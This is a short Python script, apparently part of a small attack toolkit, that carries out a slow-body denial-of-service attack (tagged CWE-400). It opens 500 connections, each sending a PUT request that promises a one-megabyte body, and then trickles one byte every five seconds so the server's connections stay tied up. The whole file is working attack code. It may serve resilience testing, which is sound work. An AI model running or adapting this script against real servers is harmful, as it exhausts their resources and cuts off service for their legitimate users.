#!/usr/bin/env python3
"""Promises a body on many connections and sends one byte of it every five seconds (slow POST, CWE-400)."""

import time

from sender import Attack, arguments, request


class SlowBody(Attack):
    def begin(self, sock):
        sock.sendall(request(self.options.path, "PUT", "Content-Length: 1000000"))

    def step(self, sock):
        if int(time.monotonic()) % 5 == 0:
            sock.sendall(b"x")
        try:
            sock.recv(4096)  # an answer, or the end
            return False
        except BlockingIOError:
            return True


SlowBody(arguments(__doc__, connections=500, path="/sink")).run()
